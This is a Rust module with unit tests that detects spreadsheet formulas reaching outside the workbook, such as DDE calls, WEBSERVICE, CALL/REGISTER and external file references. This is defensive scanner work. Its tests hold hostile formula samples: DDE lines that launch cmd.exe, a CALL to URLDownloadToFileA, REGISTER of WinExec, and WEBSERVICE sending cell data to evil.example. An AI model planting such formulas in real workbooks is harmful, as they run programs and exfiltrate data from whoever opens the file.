//! Spreadsheet formulas that reach outside the workbook, in OOXML (`<f>`, `definedName`) and
//! ODF (`table:formula`) syntax alike.
//!
//! A formula is judged by its tokens outside string literals:
//! - DDE: a `|` (Excel's `cmd|'/c calc'!A0`), or a call to `DDE`/`DDEAUTO`;
//! - functions that fetch, call or run something: `WEBSERVICE`, `FILTERXML`, `CALL`,
//!   `REGISTER`, `REGISTER.ID`, `EXEC`, `EXECUTE`, `RTD`, `IMAGE` (fetches a URL);
//! - references to another file: `[1]Sheet!A1` (an external workbook index; `[0]` is the
//!   workbook itself), and quoted sheet names holding characters a sheet name cannot have
//!   (`'C:\dir\[book.xls]Sheet'!A1`, `'file:///x.ods'#$Sheet1.A1`, `'\\server\share\…'`).
//!
//! Structured references (`Table1[Column]`, `[@Col]`) and ODF cell ranges (`[.A1:.B2]`) are
//! not external.

/// What a formula reaches.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum FormulaRisk {
    /// A DDE call: it starts a program.
    Dde,
    /// It fetches, calls or reads something outside the workbook.
    External,
}

/// Functions whose call reaches outside the workbook.
const EXTERNAL_FUNCTIONS: &[&str] = &[
    "WEBSERVICE",
    "FILTERXML",
    "CALL",
    "REGISTER",
    "REGISTER.ID",
    "EXEC",
    "EXECUTE",
    "RTD",
    "IMAGE",
];

/// Namespace prefixes that Excel and ODF put before function names.
const FUNCTION_PREFIXES: &[&str] = &[
    "_XLFN._XLWS.",
    "_XLFN.",
    "_XLWS.",
    "COM.MICROSOFT.",
    "ORG.OPENOFFICE.",
    "ORG.LIBREOFFICE.",
    "OF:",
];

/// The risk of one formula, if any.
pub(crate) fn formula_risk(formula: &str) -> Option<FormulaRisk> {
    let chars: Vec<char> = formula.chars().collect();
    let mut external = false;
    let mut depth = 0u32;
    let mut i = 0usize;
    while let Some(&c) = chars.get(i) {
        match c {
            '"' => {
                // A string literal; `""` inside it is an escaped quote.
                i += 1;
                while let Some(&s) = chars.get(i) {
                    if s == '"' {
                        if chars.get(i + 1) == Some(&'"') {
                            i += 2;
                            continue;
                        }
                        break;
                    }
                    i += 1;
                }
            }
            '\'' => {
                // A quoted sheet or file name; `''` inside it is an escaped quote.
                let mut name = String::new();
                i += 1;
                while let Some(&s) = chars.get(i) {
                    if s == '\'' {
                        if chars.get(i + 1) == Some(&'\'') {
                            name.push('\'');
                            i += 2;
                            continue;
                        }
                        break;
                    }
                    name.push(s);
                    i += 1;
                }
                if name.contains('|') {
                    return Some(FormulaRisk::Dde);
                }
                if name.contains(['[', ']', ':', '\\', '/', '?', '*']) {
                    external = true;
                }
            }
            '|' => return Some(FormulaRisk::Dde),
            ']' => depth = depth.saturating_sub(1),
            '[' if depth > 0 => depth += 1,
            '[' => {
                depth += 1;
                let prev = i.checked_sub(1).and_then(|p| chars.get(p)).copied();
                let attached = prev.is_some_and(|p| p.is_alphanumeric() || "_.][\\".contains(p));
                let digits: String = chars
                    .get(i + 1..)
                    .unwrap_or_default()
                    .iter()
                    .take_while(|d| d.is_ascii_digit())
                    .collect();
                let closes = chars.get(i + 1 + digits.len()) == Some(&']');
                if !attached && closes && !digits.trim_start_matches('0').is_empty() {
                    external = true;
                }
            }
            c if c.is_alphabetic() || c == '_' => {
                let start = i;
                while chars
                    .get(i)
                    .is_some_and(|d| d.is_alphanumeric() || matches!(d, '_' | '.' | ':'))
                {
                    i += 1;
                }
                if chars.get(i) == Some(&'(') {
                    let word: String = chars
                        .get(start..i)
                        .unwrap_or_default()
                        .iter()
                        .collect::<String>()
                        .to_uppercase();
                    let mut name = word.as_str();
                    for p in FUNCTION_PREFIXES {
                        if let Some(rest) = name.strip_prefix(p) {
                            name = rest;
                        }
                    }
                    if name == "DDE" || name == "DDEAUTO" {
                        return Some(FormulaRisk::Dde);
                    }
                    if EXTERNAL_FUNCTIONS.contains(&name) {
                        external = true;
                    }
                }
                continue;
            }
            _ => {}
        }
        i += 1;
    }
    external.then_some(FormulaRisk::External)
}

#[cfg(test)]
mod tests {
    use super::{FormulaRisk, formula_risk};

    #[test]
    fn dde_in_every_spelling() {
        for f in [
            "cmd|'/c calc.exe'!A1",
            "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
            "DDE(\"cmd\",\"/c calc.exe\",\"A1\")",
            "ddeauto(\"cmd\";\"x\")",
            "of:=DDE(\"soffice\";\"x\";\"y\")",
            "SUM(1)+DDE(\"a\",\"b\",\"c\")",
        ] {
            assert_eq!(formula_risk(f), Some(FormulaRisk::Dde), "{f}");
        }
    }

    #[test]
    fn functions_and_references_that_reach_outside() {
        for f in [
            "WEBSERVICE(\"http://evil.example/\"&A1)",
            "_xlfn.WEBSERVICE(A1)",
            "FILTERXML(A1,\"//a\")",
            "CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://x\",\"c:\\a\",0,0)",
            "REGISTER(\"kernel32\",\"WinExec\",\"JCJ\")",
            "EXEC(\"calc.exe\")",
            "RTD(\"prog.id\",,\"x\")",
            "[1]Sheet1!A1",
            "SUM([2]Data!A1:A9)",
            "'C:\\dir\\[book.xlsx]Sheet1'!A1",
            "'\\\\server\\share\\[b.xls]S'!B2",
            "of:=['file:///home/a.ods'#$Sheet1.A1]",
            "_xlfn.IMAGE(\"https://evil.example/p.png\")",
        ] {
            assert_eq!(formula_risk(f), Some(FormulaRisk::External), "{f}");
        }
    }

    #[test]
    fn ordinary_formulas_pass() {
        for f in [
            "SUM(A1:A9)",
            "'My Sheet'!A1*2",
            "'It''s'!B2",
            "Table1[Column]",
            "Table1[[#This Row],[2019]]",
            "SUM(Table1[2019])",
            "[0]!MyName",
            "of:=SUM([.A1:.B2])",
            "of:=[$'Sheet 1'.A1]",
            "\"a|b\"&A1",
            "CONCAT(\"WEBSERVICE(\",A1)",
            "HYPERLINK(\"http://example.jp\")",
            "CALLBACK_RANGE*2",
            "IMAGES_TOTAL+1",
        ] {
            assert_eq!(formula_risk(f), None, "{f}");
        }
    }
}
